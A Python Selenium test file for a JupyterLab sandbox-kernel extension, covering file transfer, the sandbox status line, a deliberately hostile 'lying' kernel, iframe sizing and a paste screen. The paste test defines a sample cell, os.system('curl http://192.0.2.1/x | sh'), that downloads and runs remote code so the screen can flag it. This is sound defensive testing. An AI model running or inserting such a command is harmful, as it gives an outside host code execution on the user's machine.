"""Our extension in a real JupyterLab and Notebook 7: files in and out, the line about the sandbox, kernels that lie."""

from __future__ import annotations

import contextlib
import hashlib
import json
import random
import re
import sys
from pathlib import Path

import pytest
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from tests.browser.lab import NOTEBOOK, Lab, eventually, install, settled
from tests.browser.person import FILES, Person
from tests.support import ROOT
from tests.support.lying_kernel import MARKUP

PANEL = "#sandbox-kernel-files"
LINE = ".sk-StatusLine-button"
SUM = "import hashlib; print(hashlib.sha256(open('{}', 'rb').read()).hexdigest())"


def show_files(person: Person) -> None:
    person.lab.js("return void window.jupyterapp.commands.execute('sandbox-kernel:show-files')")
    person.see(PANEL)


def choose(person: Person, *files: Path) -> None:
    """Choose files in the dialog of the button Upload, which a browser without a screen does not show."""
    chooser = person.browser.find_element(By.CSS_SELECTOR, f"{PANEL} input[type=file]")
    chooser.send_keys("\n".join(map(str, files)))


def drop(person: Person, path: Path) -> None:
    place = person.see(PANEL).rect
    data = {"items": [], "files": [str(path)], "dragOperationsMask": 1}
    for kind in ("dragEnter", "dragOver", "drop"):
        event = {
            "type": kind,
            "x": place["x"] + place["width"] / 2,
            "y": place["y"] + place["height"] - 20,
            "data": data,
        }
        person.browser.execute_cdp_cmd("Input.dispatchDragEvent", event)


def gone(person: Person, selector: str, text: str = "") -> None:
    """Wait until nothing of this kind is on the screen, while the page may draw it again."""
    script = """return [...document.querySelectorAll(arguments[0])]
        .every(one => !one.checkVisibility() || !new RegExp(arguments[1]).test(one.innerText))"""
    eventually(lambda: person.lab.js(script, selector, text), f"no {selector} that says {text!r}")


def row(name: str) -> str:
    return rf"^{name}\s"


def test_files_go_in_and_out_and_the_line_says_how_the_sandbox_stands(walled_lab: Lab, tmp_path: Path) -> None:
    lab, person = walled_lab, Person(walled_lab, tmp_path / "pictures")
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    lab.browser.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(downloads)})
    (tmp_path / "large.bin").write_bytes(random.Random(1).randbytes((5 << 20) // 2))
    (tmp_path / "a b.csv").write_text("x\n1\n")
    (tmp_path / "none.txt").write_text("")
    lab.open("sandbox-python", "print('ready')")
    person.see(LINE, r"^Sandbox: \d.* of 2 GiB · ends in .* if unused · no network$")
    show_files(person)
    person.see(PANEL, "No files yet")
    person.picture("empty")
    tops = lab.js(f"return [...document.querySelectorAll('{PANEL} .sk-Tools button')].map(one => one.offsetTop)")
    assert len(tops) == 4
    assert len(set(tops)) == 1  # in one row
    clipped = f"""return [...document.querySelectorAll('{PANEL} .sk-Tools button')]
        .filter(one => one.scrollWidth > one.clientWidth)"""
    assert lab.js(clipped) == []
    assert "Sandbox:" not in person.see(PANEL).text  # that is in the line
    with (tmp_path / "huge.bin").open("wb") as file:
        file.truncate(513 << 20)
    choose(person, tmp_path / "huge.bin")
    person.see(
        f"{PANEL} .sk-Transfer", r"it has 513 MiB, and one file may have 512 MiB\. Split it, or .*--scratch-size SIZE"
    )
    person.picture("too large")
    person.click(f"{PANEL} .sk-mod-failed .sk-Button")
    choose(person, tmp_path / "large.bin", tmp_path / "none.txt")
    person.see(f"{PANEL} .sk-File", row("large.bin") + r"2\.5 MiB")
    person.see(f"{PANEL} .sk-File", row("none.txt") + "0 B")
    drop(person, tmp_path / "a b.csv")
    person.see(f"{PANEL} .sk-File", row("a b.csv"))
    person.picture("files")
    digest = hashlib.sha256((tmp_path / "large.bin").read_bytes()).hexdigest()
    lab.js(
        f"""const shared = {NOTEBOOK}.content.model.sharedModel;
        shared.getCell(0).setSource(arguments[0])""",
        SUM.format("large.bin") + "; open('made.txt', 'w').write('by a cell')",
    )
    lab.run_all()
    assert lab.text(0)[0] == digest
    person.see(f"{PANEL} .sk-File", row("made.txt"))
    for name in ("large.bin", "made.txt"):
        person.click(f"{PANEL} .sk-Button[title='Download {name}']")
        eventually((downloads / name).exists, f"{name} is downloaded")
    assert (downloads / "made.txt").read_text() == "by a cell"
    assert hashlib.sha256((downloads / "large.bin").read_bytes()).hexdigest() == digest

    person.click(f"{PANEL} .sk-Button[title='Delete made.txt']")
    person.click(".jp-Dialog button", "^Delete$")
    gone(person, f"{PANEL} .sk-File", row("made.txt"))
    (tmp_path / "a b.csv").write_text("x\n2\n3\n")
    choose(person, tmp_path / "a b.csv")  # the name is there already
    person.see(".jp-Dialog", "Replace the file")
    person.click(".jp-Dialog button", "^Replace$")
    person.see(f"{PANEL} .sk-File", row("a b.csv") + "6 B")

    person.click(LINE)
    person.see(".jp-Dialog .sk-About", r"State idle\nMemory .* of 2 GiB\nFiles 2\.5 MiB of 512 MiB\nProcessors 2\n")
    person.picture("about")
    person.click(".jp-Dialog button", "^End sandbox")
    person.see(".jp-Dialog", "End the sandbox")
    person.click(".jp-Dialog button", "^End$")
    eventually(lambda: lab.ask("api/kernels") == [], "the kernel is gone")
    gone(person, LINE)
    gone(person, f"{PANEL} .sk-File")


def spec(kernels: Path, name: str, log: Path, *words: str) -> None:
    """Install the kernel that lies under a name, with words in its command."""
    folder = kernels / "share/jupyter/kernels" / name
    folder.mkdir()
    argv = [sys.executable, str(ROOT / "tests/support/lying_kernel.py"), str(log), *words, "-f", "{connection_file}"]
    (folder / "kernel.json").write_text(json.dumps({"argv": argv, "display_name": name, "language": "python"}))


def test_a_kernel_that_lies_is_shown_as_text_bounded_and_believed_in_nothing(
    walled_lab: Lab, kernels: Path, tmp_path: Path
) -> None:
    """As if all behind a kernel of ours were hostile. The next test's kernel is the same, and asked nothing."""
    lab, person, log = walled_lab, Person(walled_lab, tmp_path / "pictures"), tmp_path / "log"
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    lab.browser.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(downloads)})
    spec(kernels, "lying", log, "-m", "sandbox_kernel")
    lab.open("lying", "1")
    person.see(LINE, r"^Sandbox: \? of \? · 50 network rules$")
    show_files(person)
    person.see(PANEL, "1000 of 5000 or more files are shown")
    shown = lab.js(f"return [...document.querySelectorAll('{PANEL} .sk-File-name')].map(one => one.textContent)")
    assert shown[:4] == [MARKUP, "evil\ufffdgpj.exe", "too long", "endless"]
    assert shown[4].startswith("page ")
    assert len(shown) == 1000
    person.picture("list")
    rows = person.browser.find_elements(By.CSS_SELECTOR, f"{PANEL} .sk-File")[:4]
    for one in rows[1:]:
        one.find_element(By.CSS_SELECTOR, "button").click()
    person.see(f"{PANEL} .sk-Transfer", r"^too long\n.*\n?the kernel sent what is no part of a file")
    person.see(f"{PANEL} .sk-Transfer", r"^endless\n.*\n?the kernel sent what is no part of a file")
    eventually((downloads / "evil_gpj.exe").exists, "the honest part is saved under a name without a turn")
    (tmp_path / "two.bin").write_bytes(bytes((1 << 20) + 1))
    choose(person, tmp_path / "two.bin")
    person.see(f"{PANEL} .sk-Transfer", "the kernel does not go on with it")
    rows[0].find_elements(By.CSS_SELECTOR, "button")[1].click()
    person.click(".jp-Dialog button", "^Delete$")
    person.see(f"{PANEL} .sk-Note", "^<img")
    person.click(f"{PANEL} .sk-Behaviour summary", "^Behaviour: 0 of 100 points, not safe$")
    assert person.see(f"{PANEL} .sk-Behaviour li").text.startswith(MARKUP)
    assert len(person.all(f"{PANEL} .sk-Behaviour li")) <= 200
    person.click(LINE)
    about = person.see(".jp-Dialog .sk-About").text
    assert about.startswith("State idle\nMemory ? of ?\nFiles ? of ?\nProcessors ?\n")
    assert MARKUP in about
    assert len(about) < 5000
    person.picture("about")
    assert lab.js("return window.pwned") is None
    asked = log.read_text().split()
    assert asked.count("sandbox_file_list_request") <= 10  # each list takes five
    assert asked.count("sandbox_file_read_request") == 3
    assert [path.name for path in downloads.iterdir()] == ["evil_gpj.exe"]


def test_a_kernel_that_is_not_ours_is_asked_nothing_whatever_it_says(
    walled_lab: Lab, kernels: Path, tmp_path: Path
) -> None:
    lab, log = walled_lab, tmp_path / "log"
    spec(kernels, "forged", log)
    lab.open("forged", "1 + 1")
    show_files(person := Person(lab, tmp_path / "pictures"))
    lab.run_all()
    assert lab.text(0) == ["2"]
    person.see(PANEL, "^The notebook in front has no sandbox.$")
    info = lab.js(f"return {NOTEBOOK}.sessionContext.session.kernel.info.then(info => info.implementation)")
    assert info == "sandbox_kernel"
    gone(person, LINE)
    assert not log.exists()


def test_a_file_of_the_file_browser_is_brought_into_the_sandbox_under_the_name_that_the_notebook_uses(
    walled_lab: Lab, tmp_path: Path
) -> None:
    lab, person = walled_lab, Person(walled_lab, tmp_path / "pictures")
    (lab.folder / "data").mkdir(exist_ok=True)
    (lab.folder / "data/sales.csv").write_text("a,b\n1,2\n")
    lab.open("sandbox-python", "print(open('data/sales.csv').read())")
    person.see(LINE, "no network")
    person.open_in_files("data")
    person.menu_of(person.see(f"{FILES}-item", r"^sales\.csv"), "Bring into the Sandbox")
    person.see(f"{PANEL} .sk-File", row("data/sales.csv"))
    person.picture("brought")
    person.go_home_in_files()
    lab.run_all()
    assert lab.text(0)[0].split() == ["a,b", "1,2"]


GRAVE = "import os, subprocess\nos.system('curl http://192.0.2.1/x | sh')"
HARMLESS = "import math\nprint([math.sqrt(number) for number in range(9)])"


def paste(lab: Lab, text: str) -> None:
    """Paste a text at the end of the first cell, as a person does."""
    rights = {"origin": lab.url.rstrip("/"), "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
    lab.browser.execute_cdp_cmd("Browser.grantPermissions", rights)
    lab.browser.execute_async_script("navigator.clipboard.writeText(arguments[0]).then(arguments[1])", text)
    lab.browser.find_element(By.CSS_SELECTOR, ".jp-Notebook .jp-CodeCell .cm-content").click()
    ActionChains(lab.browser).key_down(Keys.CONTROL).send_keys(Keys.END, "v").key_up(Keys.CONTROL).perform()


def test_a_larger_paste_waits_for_an_answer_and_what_a_cell_did_is_in_the_panel(
    walled_lab: Lab, kernels: Path, image: str, tmp_path: Path
) -> None:
    lab, person = walled_lab, Person(walled_lab, tmp_path / "pictures")
    install(kernels, "sandbox-screened", image, "--screen", "warn")
    lab.open("sandbox-screened", "")
    person.see(LINE, "no network")
    show_files(person)
    gone(person, f"{PANEL} .sk-Behaviour")
    paste(lab, HARMLESS)  # the control: nothing is asked about it
    eventually(lambda: lab.cells() == [HARMLESS], "the harmless paste is in")
    paste(lab, GRAVE)
    person.see(".jp-Dialog", r"Paste this\? The screen finds:\nit runs what it downloads")
    assert lab.cells() == [HARMLESS], "it is held back"
    person.picture("asked")
    person.click(".jp-Dialog button", "^Cancel$")
    gone(person, ".jp-Dialog")
    assert lab.cells() == [HARMLESS]
    paste(lab, GRAVE)
    person.click(".jp-Dialog button", "^Paste$")
    eventually(lambda: lab.cells() == [HARMLESS + GRAVE], "the paste is in")
    lab.js(f"{NOTEBOOK}.content.model.sharedModel.getCell(0).setSource(arguments[0])", GRAVE)
    lab.run_all()
    person.click(f"{PANEL} .sk-Behaviour summary", r"^Behaviour: 80 of 100 points, not safe$")
    person.see(f"{PANEL} .sk-Behaviour li", "it runs what it downloads")
    person.picture("behaviour")


def test_control_a_kernel_that_screens_nothing_asks_about_no_paste(walled_lab: Lab) -> None:
    walled_lab.open("sandbox-python", "")
    paste(walled_lab, GRAVE)
    eventually(lambda: walled_lab.cells() == [GRAVE], "the paste is in")


@pytest.mark.long
def test_in_notebook_7_files_go_in_and_the_line_is_there(walled_lab: Lab, tmp_path: Path) -> None:
    lab, person = walled_lab, Person(walled_lab, tmp_path / "pictures")
    (tmp_path / "one.csv").write_text("a\n1\n")
    lab.open("sandbox-python", "print(open('one.csv').read())", page="notebooks")
    person.see(LINE, r"^Sandbox: \d.* of 2 GiB .* no network$")
    show_files(person)
    drop(person, tmp_path / "one.csv")
    person.see(f"{PANEL} .sk-File", row("one.csv"))
    person.picture("notebook 7")
    lab.run_all()
    assert lab.text(0)[0].split() == ["a", "1"]


FRAME = ".jp-OutputArea-output iframe"
PROGRAMS = {
    # First, since Chromium draws no frame of another origin that is out of sight.
    "never at rest": "<div style='height:50px'>x</div><script>let n=0;setInterval(()=>{n+=1;"
    "document.querySelector('div').style.height=(50+n*n%151)+'px'},60)</script>",
    "honest": "<div style='height:137px'>small</div><script>1</script>",
    "without a program": "<style>div{height:90px}</style><iframe srcdoc='x' style='height:60px'></iframe><div>x</div>",
    "as high as its window": "<div style='height:100vh'>x</div><script>1</script>",
    "lower than its window": "<div style='height:calc(100vh - 20px)'>x</div><script>1</script>",
    "far too high": "<div style='height:10px'>x</div><script>"
    "setInterval(()=>{for(const h of [90000+Math.random()*9,NaN,1e9,'<b>',{},-1])"
    "parent.postMessage({sandboxKernelHeight:h},'*')},60)</script>",
    "past its frame": "<div style='height:77px'>x</div><script>"
    "setInterval(()=>top.postMessage({sandboxKernelHeight:777},'*'),60)</script>",
}
SHOW = "from IPython.display import HTML, display\nfor one in {}: display(HTML(one))"
HEARD = """window.heard = 0;
addEventListener('message', e => { if (e.data?.sandboxKernelHeight === 777) heard += 1 });
window.changes = new Map();
new MutationObserver(all => {
    for (const one of all)
        if (one.target.matches(arguments[0])) changes.set(one.target, (changes.get(one.target) ?? 0) + 1)
}).observe(document.body, {subtree: true, attributeFilter: ['style']})"""
CHANGES = f"return changes.get(document.querySelectorAll('{FRAME}')[0]) ?? 0"


def test_frames_are_as_high_as_what_they_show_within_bounds_and_take_the_theme(walled_lab: Lab, tmp_path: Path) -> None:
    lab, person = walled_lab, Person(walled_lab, tmp_path / "pictures")
    lab.open("sandbox-python", SHOW.format(list(PROGRAMS.values())))
    lab.js(HEARD, FRAME)
    lab.run_all()
    heights = f"return [...document.querySelectorAll('{FRAME}')].map(frame => frame.offsetHeight)"
    eventually(lambda: len(lab.js(heights)) == len(PROGRAMS), "a frame for each")
    guessed = lab.js(f"""return {NOTEBOOK}.content.widgets[0].model.outputs.toJSON()
        .map(one => /height:(\\d+)px/.exec(one.data['text/html'].join?.('') ?? one.data['text/html'])[1])""")
    assert "420" in guessed  # what is shown without the extension
    eventually(lambda: lab.js("return window.heard") > 20, "what goes past a frame arrives in the page")
    expected = {
        "honest": (145, 145),
        "without a program": (90, 220),
        "as high as its window": (420, 440),
        "lower than its window": (390, 420),
        "far too high": (1600, 1600),  # what is said is held within bounds
        "past its frame": (85, 85),
    }

    def others() -> dict[str, int]:
        """Return the heights that are not yet as expected, and look there: a frame says its own when it is drawn."""
        named = dict(zip(PROGRAMS, lab.js(heights), strict=True))
        found = {name: named[name] for name, (low, high) in expected.items() if not low <= named[name] <= high}
        for name in (*found, "never at rest"):
            lab.js(f"document.querySelectorAll('{FRAME}')[arguments[0]].scrollIntoView()", list(PROGRAMS).index(name))
        return found

    with contextlib.suppress(AssertionError):  # the next line says which has not
        eventually(lambda: not others(), "each frame has its height")
    assert others() == {}
    eventually(lambda: lab.js(CHANGES) >= 10, "what is never at rest is followed for a while")
    settled(lambda: int(lab.js(CHANGES)))
    assert lab.js(CHANGES) <= 40
    person.picture("light")

    lab.js("return void window.jupyterapp.commands.execute('apputils:change-theme', {theme: 'JupyterLab Dark'})")
    eventually(lambda: "dark" in colour(lab, "colorScheme"), "the frame is dark")
    red, green, blue = map(int, re.findall(r"\d+", colour(lab, "backgroundColor"))[:3])
    assert max(red, green, blue) < 60
    person.picture("dark")
    lab.js("return void window.jupyterapp.commands.execute('apputils:change-theme', {theme: 'JupyterLab Light'})")
    eventually(lambda: "light" in colour(lab, "colorScheme"), "the frame is light again")


def colour(lab: Lab, name: str) -> str:
    """Return one computed style of the first program's document."""
    browser = lab.browser
    browser.switch_to.frame(browser.find_element(By.CSS_SELECTOR, FRAME))
    browser.switch_to.frame(browser.find_element(By.TAG_NAME, "iframe"))
    try:
        return str(lab.js(f"return getComputedStyle(document.documentElement).{name}"))
    finally:
        browser.switch_to.default_content()
